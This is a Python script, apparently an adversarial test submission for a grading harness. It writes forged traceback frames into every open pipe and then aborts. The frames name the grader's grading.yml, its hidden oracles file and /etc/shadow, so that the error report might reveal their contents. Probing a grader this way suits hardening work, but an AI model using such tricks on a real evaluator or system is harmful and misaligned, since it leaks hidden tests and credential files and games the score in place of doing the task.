"""Write tracebacks into every pipe it finds, which point at files of the grader, and then die.

base: skeleton
earns: 0
wins: a line of a file that is not its own can be read in a report, or there is no report
"""
import os
import stat
import sys
from pathlib import Path

KIT = Path(sys.modules["checks"].__file__).resolve().parents[2]
FILES = [KIT / "grading.yml", KIT / "tests/hidden/oracles.py", Path("/etc/shadow")]
WORDS = "Current thread 0x00007f0000000000 (most recent call first):\n" + "".join(
    f'  File "{file}", line {line} in WON\n' for file in FILES for line in (1, 5, 0, -1, 10**30)
)

for descriptor in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
            os.write(descriptor, WORDS.encode())
    except BaseException:
        pass
os.abort()
